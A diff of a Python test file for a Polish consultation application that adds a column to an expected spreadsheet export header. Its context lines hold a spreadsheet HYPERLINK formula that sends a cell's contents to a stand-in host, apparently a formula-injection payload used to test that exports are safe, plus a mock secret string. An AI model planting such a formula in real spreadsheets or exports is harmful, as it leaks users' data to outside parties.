@@ -16,7 +16,7 @@ from consult.postulates.models import Position
 from consult.postulates.operations import assign_postulate, create_postulate, publish_positions, save_position
 from tests.conftest import login
 
-HEADER = ["Numer", "Program", "Spotkanie", "Zgłaszający", "Treść postulatu", "Uzasadnienie", "Stan",
+HEADER = ["Numer", "Program", "Spotkanie", "Zgłaszający", "Treść postulatu", "Uzasadnienie", "Przepis programu", "Stan",
           "Komórka merytoryczna", "Rodzaj stanowiska", "Treść stanowiska", "Data publikacji"]
 FORMULA = '=HYPERLINK("http://zly.example/?x="&A1;"Kliknij")'
 SECRET = "Projekt stanowiska jednostki Y – jeszcze nie do wiadomości publicznej"
